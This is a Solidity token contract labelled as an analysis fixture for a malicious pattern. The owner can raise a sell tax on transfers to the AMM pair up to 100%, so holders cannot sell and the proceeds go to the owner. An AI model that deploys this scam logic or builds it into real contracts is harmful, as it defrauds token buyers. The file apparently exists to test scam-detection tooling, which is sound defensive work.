// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title TaxToken
/// @notice ANALYSIS FIXTURE (malicious pattern): transfers to the AMM pair ("sells") pay a tax to
///         the owner, and the owner can raise the tax to 100%, making selling worthless.
contract TaxToken {
    string public constant name = "Tax Token";
    string public constant symbol = "TAX";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public ammPair;
    /// @notice Sell tax in percent, 0..100.
    uint256 public taxRate = 5;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    constructor() {
        owner = msg.sender;
        totalSupply = 1_000_000e18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// @notice Owner may set any rate up to 100% (the whole sale goes to the owner).
    function setTaxRate(uint256 rate) external onlyOwner {
        require(rate <= 100, "rate > 100");
        taxRate = rate;
    }

    function setAmmPair(address pair) external onlyOwner {
        ammPair = pair;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(balanceOf[from] >= amount, "balance");
        uint256 tax = 0;
        if (to == ammPair && from != owner) {
            tax = (amount * taxRate) / 100;
        }
        balanceOf[from] -= amount;
        balanceOf[to] += amount - tax;
        emit Transfer(from, to, amount - tax);
        if (tax > 0) {
            balanceOf[owner] += tax;
            emit Transfer(from, owner, tax);
        }
    }
}
